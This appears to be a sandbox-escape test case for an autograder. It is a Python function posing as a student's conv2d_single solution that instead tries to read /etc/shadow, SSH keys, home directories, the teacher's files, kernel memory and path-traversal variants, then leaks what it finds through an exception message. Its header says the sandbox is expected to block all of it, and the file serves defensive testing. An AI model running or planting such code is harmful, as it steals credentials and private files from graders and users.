# attack: reads whatever it can name: accounts, keys, homes, the teacher's files, devices, and links that lead out
# exercise: 02
# gains: nothing
# says: no file
# holds: only the interpreter, its libraries and the chosen packages can be read
import glob
import os

CANARIES = []
PROJECT = ""
NAMES = (
    "/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/resolv.conf", "/dev/mem",
    "/dev/kmem", "/dev/sda", "/proc/kcore", "/proc/kallsyms", "/proc/mounts", "/proc/self/mountinfo", "/proc/cmdline",
    "/proc/net/tcp", "/proc/self/mem", "/sys/class/net", "/var/log/syslog", "/run/secrets", "/.dockerenv", "/proc/config.gz",
    "/etc/../etc/passwd", "//etc//passwd", "/proc/self/root/etc/passwd", "/proc/self/cwd/etc/passwd", "/dev/fd/0/../../etc",
    "/usr/lib/../../etc/passwd", "/lib/../etc/passwd",
)


def read(path):
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(descriptor, 200) or b"?"
    finally:
        os.close(descriptor)


def listed(folder):
    return ",".join(os.listdir(folder)).encode()


def conv2d_single(image, kernel, stride=1, padding=0):
    found = []
    folders = ["/", "/etc", "/root", "/home", "/tmp", "/var", "/proc", "/proc/self", os.path.expanduser("~root"), PROJECT,
               "/dev", "/dev/shm", "/sys", "/mnt", "/opt", "/srv", *map(os.path.dirname, CANARIES)]
    for place, look in (
        *((name, read) for name in (*CANARIES, *NAMES)), *((folder, listed) for folder in folders if folder),
        *((name, read) for name in glob.glob("/home/*/*") + glob.glob("/*/.ssh/*") + glob.glob("/*/.bash*") + glob.glob(f"{PROJECT}/*")),
    ):
        try:
            found.append(f"{place}: {look(place)!r}")
        except OSError:
            continue
    raise RuntimeError(" ".join(found)[:290] or "no " + "file")
